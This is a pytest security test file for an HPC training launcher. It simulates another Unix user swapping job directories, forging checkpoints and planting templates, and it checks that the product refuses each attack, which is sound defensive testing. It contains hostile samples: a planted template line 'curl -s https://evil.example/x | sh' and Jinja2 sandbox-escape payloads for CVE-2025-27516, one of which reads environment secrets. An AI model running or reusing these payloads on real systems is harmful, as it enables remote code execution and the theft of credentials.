"""A hostile shared filesystem: another Unix user who can write near our files can neither run
code as us, nor feed us weights, nor read our secret.

Each attack is carried out by a real second, unprivileged account (``mallory``, see
tests/unix_users.py) against the product run by the test's own user; docs/security.md lists
them under "Attacks and their tests".
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from cluster import REPO
from slurm_fake import FakeSlurm, mocked_submit
from unix_users import UnixUser, mallory, shared

from hpc_elastic import cli
from hpc_elastic.errors import CheckpointError, TemplateError, UsageError
from hpc_elastic.jobdir import make_private_dir, write_private
from hpc_elastic.rendezvous.secret import read_secret_file

__all__ = ["mallory", "shared"]  # fixtures, imported for pytest to find

RUN_ID = "train-20260101-000000-" + "ab" * 16
HER_SCRIPT = "open({canary!r}, 'w').write('mallory ran as uid %d' % __import__('os').getuid())\n"


def one_error_line(stderr: str) -> str:
    """The CLI's whole answer to a refusal: one ``error:`` line, no traceback."""
    lines = stderr.strip().splitlines()
    assert len(lines) == 1, stderr
    assert lines[0].startswith("error: "), stderr
    return lines[0]


# --- 1. A pending job's directory swapped for the attacker's --------------------------------


def a_submitted_job(log_dir: Path) -> Path:
    """A job directory as ``submit`` leaves it: 0700, its secret 0600, its code snapshot."""
    job = log_dir / RUN_ID
    make_private_dir(job)
    write_private(job / "secret", secrets.token_hex(32), exclusive=True)
    (job / "code").mkdir()
    (job / "code" / "train.py").write_text("print('the job as submitted')\n")
    return job


def swap(attacker: UnixUser, job: Path, canary: Path) -> None:
    """The attack: rename the job's directory aside, make one of her own in its place that
    links to the real secret, and plant her training script where the job will look."""
    aside = job.with_name(f".{job.name}")
    attacker.sh(
        f"mv {job} {aside}; mkdir -p {job}/code; ln -s ../{aside.name}/secret {job}/secret; "
        f"cat > {job}/code/train.py <<'EOF'\n{HER_SCRIPT.format(canary=str(canary))}EOF\n"
        f"chmod -R a+rwX {job}"
    )


def test_an_agent_never_runs_code_from_a_job_directory_another_user_swapped(
    mallory: UnixUser, shared: Path, private_zookeeper: str
) -> None:
    job = a_submitted_job(shared / "project")
    canary = shared / "canary"
    swap(mallory, job, canary)
    agent = subprocess.run(
        [
            sys.executable, "-m", "hpc_elastic", "agent", f"--run-id={RUN_ID}",
            f"--job-dir={job}", f"--zk={private_zookeeper}/fs-{uuid.uuid4().hex}",
            f"--zk-auth-file={job / 'secret'}", "--nodes=1", "--slot=0", "--host=127.0.0.1",
            "--no-preflight", "--", sys.executable, "-u", str(job / "code" / "train.py"),
        ],
        env={**os.environ, "PYTHONPATH": str(REPO)},
        capture_output=True, text=True, timeout=180, check=False,
    )  # fmt: skip
    assert not canary.exists(), f"the agent ran her script: {canary.read_text()}"
    assert agent.returncode == 1, agent.stderr
    line = one_error_line(agent.stderr)
    assert f"Job directory '{job}' is not trusted because it is owned by user id" in line
    assert str(mallory.uid) in line


def test_a_secret_file_that_is_a_link_or_another_users_file_is_never_read(
    mallory: UnixUser, shared: Path
) -> None:
    hers = shared / "project" / "secret"
    mallory.sh(f"umask 077; echo her-own-secret > {hers}")
    job = shared / "victim-job"
    make_private_dir(job)
    (job / "secret").symlink_to(hers)
    with pytest.raises(UsageError, match=f"secret file '{job / 'secret'}' is a symbolic link"):
        read_secret_file(job / "secret")
    with pytest.raises(UsageError, match=f"secret file '{hers}' is owned by user id {mallory.uid}"):
        read_secret_file(hers)


@pytest.fixture
def submitting(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeSlurm]:
    """``hpc-elastic submit`` from a project of the test's own, with Slurm faked."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("HPC_ELASTIC_ZK", raising=False)
    (tmp_path / "train.py").write_text("pass\n")
    with mocked_submit() as fake:
        yield fake


@pytest.mark.parametrize("where", ["a group project directory", "a teammate's runs directory"])
def test_submit_refuses_a_log_directory_in_which_another_user_may_rename_the_job(
    mallory: UnixUser, shared: Path, submitting: FakeSlurm, where: str
) -> None:
    project = shared / "project"
    unsafe, log_dir = project, project / "runs"
    if where == "a teammate's runs directory":
        unsafe = log_dir = project / "mallory-runs"
        mallory.sh(f"mkdir -m 755 {log_dir}")
    result = CliRunner().invoke(cli.app, ["submit", f"--log-dir={log_dir}", "train.py"])
    assert result.exit_code == 2, result.stderr
    line = one_error_line(result.stderr)
    assert f"'{unsafe}'" in line
    assert "--log-dir" in line
    assert submitting.submitted == []
    assert not any(log_dir.glob("train-*")), "a job directory was made"


def test_submit_accepts_a_log_directory_under_a_sticky_one(
    mallory: UnixUser, shared: Path, submitting: FakeSlurm
) -> None:
    del mallory  # the same place as above, made safe: others may add entries, not move ours
    (shared / "project").chmod(0o1777)
    result = CliRunner().invoke(
        cli.app, ["submit", f"--log-dir={shared / 'project' / 'runs'}", "train.py"]
    )
    assert result.exit_code == 0, result.stderr
    assert len(submitting.submitted) == 1


def test_run_refuses_a_job_directory_swapped_before_its_agents_start(
    mallory: UnixUser, shared: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from hpc_elastic import local  # noqa: PLC0415
    from hpc_elastic.spec import NodeRange  # noqa: PLC0415

    script = tmp_path / "train.py"
    script.write_text("pass\n")
    run = local.LocalRun(script=script, nodes=NodeRange(1, 1), log_dir=shared / "project")
    job = local.LocalJob(run, say=lambda _text: None)
    canary = shared / "canary"
    written = local.LocalJob._write_job_dir

    def then_swapped(self: local.LocalJob) -> None:
        written(self)
        swap(mallory, self.job_dir, canary)

    monkeypatch.setattr(local.LocalJob, "_write_job_dir", then_swapped)
    with pytest.raises(UsageError, match=f"^Job directory '{job.job_dir}' is not trusted because"):
        job.execute()
    assert not (job.job_dir / "logs").exists(), "an agent was started in her directory"


# --- 2. The node-local checkpoint tier ------------------------------------------------------


def forged_checkpoint(directory: Path, step: int, value: float) -> Path:
    """A checkpoint as anyone could make one: the real format, her own weights, no secret."""
    import torch  # noqa: PLC0415

    from hpc_elastic.train import Checkpointer, TrainState  # noqa: PLC0415

    model = torch.nn.Linear(2, 2)
    with torch.no_grad():
        model.weight.fill_(value)
    state = TrainState(model)
    state.step = step
    written = Checkpointer(directory, round=None).save(state)
    assert written is not None
    return written


@pytest.fixture
def job_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> bytes:
    """The job's secret, as the agent's workers find it."""
    path = tmp_path / "job-secret"
    write_private(path, secrets.token_hex(32))
    monkeypatch.setenv("HPC_ELASTIC_SECRET_FILE", str(path))
    monkeypatch.delenv("HPC_ELASTIC_JOB_DIR", raising=False)
    return path.read_bytes().strip()


@pytest.mark.filterwarnings("ignore:torch.distributed is disabled")
def test_a_local_tier_another_user_prepared_never_feeds_the_job_her_weights(
    mallory: UnixUser,
    shared: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import torch  # noqa: PLC0415

    from hpc_elastic.train import Checkpointer, TrainState  # noqa: PLC0415

    monkeypatch.delenv("HPC_ELASTIC_SECRET_FILE", raising=False)
    monkeypatch.delenv("HPC_ELASTIC_JOB_DIR", raising=False)
    forged = forged_checkpoint(shared / "forge", 190, 666.0)
    (shared / "forge").chmod(0o755)
    local_dir = shared / "project" / "local-checkpoints"
    mallory.sh(f"mkdir -p {local_dir}/rank-0; cp -r {forged} {local_dir}/rank-0/")
    secret = tmp_path / "job-secret"
    write_private(secret, secrets.token_hex(32))
    monkeypatch.setenv("HPC_ELASTIC_SECRET_FILE", str(secret))

    model = torch.nn.Linear(2, 2)
    state = TrainState(model)
    fresh = Checkpointer(tmp_path / "shared-tier", round=None, local_directory=local_dir)
    with pytest.raises(CheckpointError, match=f"'{local_dir}' is not trusted because") as refused:
        fresh.load(state)
    assert f"owned by user id {mallory.uid}" in str(refused.value)
    assert state.step == 0
    assert not torch.equal(model.weight, torch.full((2, 2), 666.0))


@pytest.fixture(params=[0o000, 0o022], ids=["umask-000", "umask-022"])
def loose_umask(request: pytest.FixtureRequest) -> Iterator[None]:
    previous = os.umask(request.param)
    yield
    os.umask(previous)


@pytest.mark.filterwarnings("ignore:torch.distributed is disabled")
@pytest.mark.usefixtures("loose_umask", "job_secret")
def test_the_local_tier_is_the_users_alone_whatever_the_umask(tmp_path: Path) -> None:
    import torch  # noqa: PLC0415

    from hpc_elastic.train import Checkpointer, TrainState  # noqa: PLC0415
    from hpc_elastic.train.sharded import save_sharded  # noqa: PLC0415

    local_dir = tmp_path / "node-local" / "ckpt"
    saver = Checkpointer(tmp_path / "shared", round=None, local_directory=local_dir)
    state = TrainState(torch.nn.Linear(2, 2))
    state.step = 3
    saver.save(state)
    save_sharded({"weight": torch.arange(4.0)}, 4, checkpointer=saver)
    written = [local_dir, *local_dir.rglob("*")]
    assert {path.name for path in written} >= {"rank-0", "shard-0", "state.pt", "manifest.json"}
    for path in written:
        mode = path.stat().st_mode & 0o777
        assert mode == (0o700 if path.is_dir() else 0o600), f"{path} has mode {mode:04o}"


def test_a_local_tier_of_ours_others_may_write_is_refused(tmp_path: Path) -> None:
    from hpc_elastic.train import Checkpointer  # noqa: PLC0415

    local_dir = tmp_path / "ckpt"
    local_dir.mkdir(mode=0o777)
    local_dir.chmod(0o777)
    local = Checkpointer(tmp_path / "shared", round=None, local_directory=local_dir)._local()
    with pytest.raises(CheckpointError, match=r"group or others may write it \(mode 0777\)"):
        local.prepare_staging(1)


def manifest_of(checkpoint: Path) -> dict[str, object]:
    loaded: dict[str, object] = json.loads((checkpoint / "manifest.json").read_text())
    return loaded


@pytest.mark.filterwarnings("ignore:torch.distributed is disabled")
def test_every_manifest_is_sealed_with_the_jobs_secret_and_one_that_does_not_verify_is_refused(
    tmp_path: Path, job_secret: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    import torch  # noqa: PLC0415

    from hpc_elastic.train import Checkpointer, TrainState, _integrity  # noqa: PLC0415

    shared_tier = tmp_path / "shared"
    ours = forged_checkpoint(shared_tier, 10, 1.0)  # with the secret in the environment: ours
    assert _integrity.manifest_problem(manifest_of(ours), (job_secret,)) is None
    monkeypatch.delenv("HPC_ELASTIC_SECRET_FILE")
    forged_checkpoint(shared_tier, 190, 666.0)  # anyone's: no secret, no seal
    monkeypatch.setenv("HPC_ELASTIC_SECRET_FILE", str(tmp_path / "job-secret"))

    model = torch.nn.Linear(2, 2)
    state = TrainState(model)
    assert Checkpointer(shared_tier, round=None).load(state) == ours
    assert state.step == 10
    assert torch.equal(model.weight, torch.full((2, 2), 1.0))

    forged = manifest_of(shared_tier / "step-00000190")
    problems = {
        "unsealed": forged,
        "sealed by another job": _integrity.seal_manifest(forged, (b"another job's secret",)),
        "ours, edited": {**manifest_of(ours), "world_size": 2},
        "ours, under another step": manifest_of(ours),
    }
    reasons = {
        "unsealed": "its manifest is not sealed",
        "sealed by another job": "its manifest's seal matches no key this job holds",
        "ours, edited": "its manifest's seal matches no key this job holds",
        "ours, under another step": "its manifest is of step 10, not 190",
    }
    from hpc_elastic.train.checkpoint import verify  # noqa: PLC0415

    for name, manifest in problems.items():
        (shared_tier / "step-00000190" / "manifest.json").write_text(json.dumps(manifest))
        assert verify(shared_tier / "step-00000190") == reasons[name], name


@pytest.mark.filterwarnings("ignore:torch.distributed is disabled")
def test_a_local_copy_without_the_jobs_seal_is_never_loaded(
    tmp_path: Path, job_secret: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    import torch  # noqa: PLC0415

    from hpc_elastic.train import Checkpointer, TrainState  # noqa: PLC0415

    del job_secret  # in the environment: the job's workers hold it
    local_dir = tmp_path / "local"
    saver = Checkpointer(tmp_path / "shared", round=None, local_directory=local_dir)
    state = TrainState(torch.nn.Linear(2, 2))
    state.step = 5
    saver.save(state)
    monkeypatch.delenv("HPC_ELASTIC_SECRET_FILE")
    forged = forged_checkpoint(tmp_path / "forge", 190, 666.0)
    shutil.copytree(forged, local_dir / "rank-0" / forged.name)
    monkeypatch.setenv("HPC_ELASTIC_SECRET_FILE", str(tmp_path / "job-secret"))

    model = torch.nn.Linear(2, 2)
    restored = TrainState(model)
    assert saver.load(restored) == local_dir / "rank-0" / "step-00000005"
    assert restored.step == 5


SAVER = """\
import torch
from hpc_elastic.train import Checkpointer, TrainState
state = TrainState(torch.nn.Linear(2, 2))
state.step = 3
Checkpointer.at().save(state)
"""


def test_a_local_run_gets_the_users_key_and_its_workers_seal_every_tier_with_it(
    tmp_path: Path,
) -> None:
    from hpc_elastic import checkpoint_key  # noqa: PLC0415
    from hpc_elastic.train import _integrity  # noqa: PLC0415

    (tmp_path / "saver.py").write_text(SAVER)
    local_dir = tmp_path / "node-local"
    result = subprocess.run(
        [sys.executable, "-m", "hpc_elastic", "run", "--nodes=1", "--no-prewarm",
         f"--local-checkpoint-dir={local_dir}", "saver.py"],
        cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(REPO)},
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    [job] = (tmp_path / "hpc-elastic-runs").iterdir()
    for private in (job / "secret", job / "checkpoint-key"):
        assert private.stat().st_mode & 0o777 == 0o600
    key = read_secret_file(job / "checkpoint-key").encode()
    user_secret = read_secret_file(checkpoint_key.user_secret_file())
    assert key == checkpoint_key.derive(user_secret).encode()
    for checkpoint in (
        job / "checkpoints" / "step-00000003",
        local_dir / "rank-0" / "step-00000003",
    ):
        manifest = json.loads((checkpoint / "manifest.json").read_text())
        assert _integrity.manifest_problem(manifest, (key,)) is None, checkpoint
        assert _integrity.manifest_problem(manifest, (b"another user's key",)) is not None


@pytest.mark.filterwarnings("ignore:torch.distributed is disabled")
def test_a_checkpoint_another_user_sealed_with_her_own_key_is_never_loaded(
    mallory: UnixUser,
    shared: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Her key is derived from her user secret as ours is from ours: a checkpoint she seals
    verifies for her jobs, never for ours, wherever she puts it."""
    import torch  # noqa: PLC0415
    from test_checkpoint_key import new_job  # noqa: PLC0415

    from hpc_elastic.train import Checkpointer, TrainState  # noqa: PLC0415

    monkeypatch.delenv("HPC_ELASTIC_SECRET_FILE", raising=False)
    project = shared / "project"  # everyone may write it: where she plants
    monkeypatch.setenv("HPC_ELASTIC_USER_SECRET_FILE", str(tmp_path / "her-user-secret"))
    monkeypatch.setenv("HPC_ELASTIC_JOB_DIR", str(new_job(tmp_path / "her-runs", "hers")))
    forged = forged_checkpoint(shared / "forge", 190, 666.0)  # sealed with her own key
    subprocess.run(["chmod", "-R", "a+rX", str(shared / "forge")], check=True)
    monkeypatch.setenv("HPC_ELASTIC_USER_SECRET_FILE", str(tmp_path / "our-user-secret"))
    monkeypatch.setenv("HPC_ELASTIC_JOB_DIR", str(new_job(tmp_path / "runs", "ours")))
    ours = forged_checkpoint(project, 10, 1.0)
    mallory.sh(f"cp -r {forged} {project}/")
    assert (project / forged.name).stat().st_uid == mallory.uid

    model = torch.nn.Linear(2, 2)
    state = TrainState(model)
    assert Checkpointer(project, round=None).load(state) == ours
    assert state.step == 10
    assert torch.equal(model.weight, torch.full((2, 2), 1.0))
    assert "its manifest's seal matches no key this job holds" in caplog.text


# --- 3. Templates planted beside the user's, or named by the user's config ------------------

PLANTED = (
    "{% block shape %}{% endblock %}\ncurl -s https://evil.example/x | sh\n"
    "{% block launch %}{% endblock %}\n"
)


def render_with(args: list[str]) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli.app, ["render", *args, "train.py"])
    return result.exit_code, result.stdout, result.stderr


def test_a_base_template_planted_beside_the_users_template_is_never_used(
    mallory: UnixUser, shared: Path, submitting: FakeSlurm
) -> None:
    del submitting  # for its project directory
    templates = shared / "project" / "templates"
    templates.mkdir()
    templates.chmod(0o1777)  # shared with the group; sticky, so nobody can replace ours
    mine = templates / "mine.sh.j2"
    mine.write_text('{% extends "elastic.sh.j2" %}\n')
    mallory.sh(f"cat > {templates / 'base.sh.j2'} <<'EOF'\n{PLANTED}EOF\n")
    code, stdout, stderr = render_with([f"--template={mine}"])
    assert code == 0, stderr
    assert "curl" not in stdout
    assert "#SBATCH --array=0-0" in stdout


@pytest.mark.parametrize("how", ["named by the config", "included by the user's template"])
def test_a_template_of_another_user_is_refused(
    mallory: UnixUser, shared: Path, submitting: FakeSlurm, tmp_path: Path, how: str
) -> None:
    del submitting  # for its project directory
    project = shared / "project"
    hers = project / "helpers.sh.j2"
    mallory.sh(f"cat > {hers} <<'EOF'\n{PLANTED}EOF\n")
    if how == "named by the config":
        (tmp_path / "hpc-elastic.toml").write_text(f'template = "{hers}"\n')
    else:
        mine = project / "mine.sh.j2"
        mine.write_text(
            '{% extends "elastic.sh.j2" %}{% block launch %}{% include "helpers.sh.j2" %}'
            "{% endblock %}\n"
        )
        (tmp_path / "hpc-elastic.toml").write_text(f'template = "{mine}"\n')
    code, stdout, stderr = render_with([])
    assert code == 2, stdout
    line = one_error_line(stderr)
    assert f"'{hers}' is not trusted because it is owned by user id {mallory.uid}" in line
    assert "curl" not in stdout


def test_a_template_others_may_write_is_refused(submitting: FakeSlurm, tmp_path: Path) -> None:
    del submitting  # for its project directory
    mine = tmp_path / "mine.sh.j2"
    mine.write_text('{% extends "elastic.sh.j2" %}\n')
    mine.chmod(0o666)
    code, _, stderr = render_with([f"--template={mine}"])
    assert code == 2
    assert "group or others may write it (mode 0666)" in one_error_line(stderr)


# --- 4. The sandbox escape of jinja2 3.1.5 (CVE-2025-27516) ---------------------------------

ATTR_FORMAT_ESCAPES = [
    # Verbatim from the fix's own test (pallets/jinja, GHSA-cpwx-vrp4-4pq7).
    '{{ "{0.__call__.__builtins__[__import__]}" | attr("format")(not_here) }}',
    # The same bypass, reading the login node's environment through a built-in global.
    '{{ "{0.__globals__[os].environ}" | attr("format")(lipsum) }}',
]


@pytest.mark.parametrize("escape", ATTR_FORMAT_ESCAPES)
def test_the_attr_format_sandbox_escape_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, escape: str
) -> None:
    from dataclasses import replace  # noqa: PLC0415

    from test_render import CONTEXT, ELASTIC  # noqa: PLC0415

    from hpc_elastic.render import render  # noqa: PLC0415

    monkeypatch.setenv("HPC_ELASTIC_TEST_TOKEN", "tok-from-the-login-node")
    template = tmp_path / "mine.sh.j2"
    template.write_text(escape + "\n")

    def attack() -> None:
        leaked = render(replace(ELASTIC, template=template), CONTEXT).text
        pytest.fail(f"the template escaped the sandbox: {leaked[:300]}")

    with pytest.raises(TemplateError, match="tried something the template sandbox forbids") as no:
        attack()
    assert "tok-from-the-login-node" not in str(no.value)


def test_the_installed_jinja2_is_not_one_the_escape_works_on() -> None:
    import jinja2  # noqa: PLC0415

    installed = tuple(int(part) for part in jinja2.__version__.split(".")[:3])
    assert installed >= (3, 1, 6), jinja2.__version__
    requirement = [
        line for line in (REPO / "pyproject.toml").read_text().splitlines() if "jinja2" in line
    ]
    assert requirement == ['  "jinja2>=3.1.6",'], requirement
